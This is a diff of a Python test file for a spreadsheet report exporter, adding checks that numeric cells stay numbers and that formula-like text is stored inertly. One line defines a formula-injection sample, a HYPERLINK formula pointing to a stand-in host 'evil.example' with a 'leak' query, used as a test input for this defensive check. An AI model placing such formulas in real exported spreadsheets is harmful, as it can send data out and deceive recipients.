@@ -14,6 +14,7 @@ from openpyxl import load_workbook
 from models import Plan, Scenario, Shortfall, build_plan, evaluate, load_scenario, owed_obligations
 from optimizer.reports import Pseudonyms, fonts, pseudonymize, write_exports, write_workbook
 from optimizer.reports.privacy import AMBIGUOUS, KEY_VARIABLE, name_scrubber
+from optimizer.reports.xlsx import cell
 
 YEAR = 2020
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak","点此查看")'
@@ -102,7 +103,12 @@ def scenario_and_plan(tmp_path_factory) -> tuple[Scenario, Plan]:
         for o in evaluate(scenario, obligations, plan)
         if not o.met
     )
+    tiers = [
+        {"tier": t, "name": "", "owed": 4, "met": 3, "bound": 4, "bound_source": "cp-sat", "gap": 0.25}
+        for t in (1, 2, 3, 4, 5)
+    ]
     summary = {"status": "feasible", "objective": -12.5, "bound": -20.0, "gap": 0.6, "solve_seconds": 1.0}
+    summary |= {"tiers": tiers, "gap_tier": 1}
     return scenario, replace(plan, shortfalls=shortfalls, summary=summary)
 
 
@@ -214,12 +220,16 @@ def test_formula_like_scenario_text_is_inert_and_numbers_stay_numbers(scenario_a
         assert texts[risky].data_type == "s" and texts[risky].quotePrefix, risky
     summary = book.worksheets[0]
     facts = {summary.cell(r, 1).value: summary.cell(r, 2) for r in range(1, summary.max_row + 1)}
-    assert (
-        facts["目标值"].value == -12.5
-        and facts["目标值"].data_type == "n"
-        and not facts["目标值"].quotePrefix
-    )
-    assert facts["目标界"].value == -20.0 and facts["目标界"].data_type == "n"
+    cost = facts["培训经费(元)"]
+    assert cost.value == sum(scenario.session_by_id[a.session_id].cost_per_head for a in plan.assignments) > 0
+    assert cost.data_type == "n" and not cost.quotePrefix
+    tier = next(r for r in range(1, summary.max_row + 1) if summary.cell(r, 1).value == 1)
+    figures = [summary.cell(tier, c) for c in range(1, 7)]  # tier, what, owed, met, bound, gap
+    assert [c.value for c in figures] == [1, "点名调训和逾期补训", 4, 3, 4, 0.25]
+    assert all(c.data_type == "n" and not c.quotePrefix for c in figures if c.column != 2)
+    # A negative figure starts with "-", as a formula does: written as a number it stays one.
+    negative = cell(book.worksheets[0], -12.5)
+    assert negative.data_type == "n" and not negative.quotePrefix
 
 
 def test_the_font_warning_names_the_id_not_the_name(scenario_and_plan):
